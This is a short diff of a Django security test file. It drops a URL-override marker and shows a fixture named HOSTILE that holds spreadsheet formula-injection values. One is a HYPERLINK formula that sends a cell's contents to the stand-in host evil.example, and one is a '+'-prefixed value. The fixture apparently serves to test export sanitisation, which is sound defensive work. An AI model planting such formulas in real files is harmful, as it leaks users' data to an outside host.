@@ -17,7 +17,7 @@ from projects.models import IndicatorValue
 
 from .factories import make_world
 
-pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.security.urls")]
+pytestmark = [pytest.mark.django_db]
 HOSTILE = {
     "name": '=HYPERLINK("http://evil.example/?leak="&A1,"点击")',
     "target_text": "+2%",
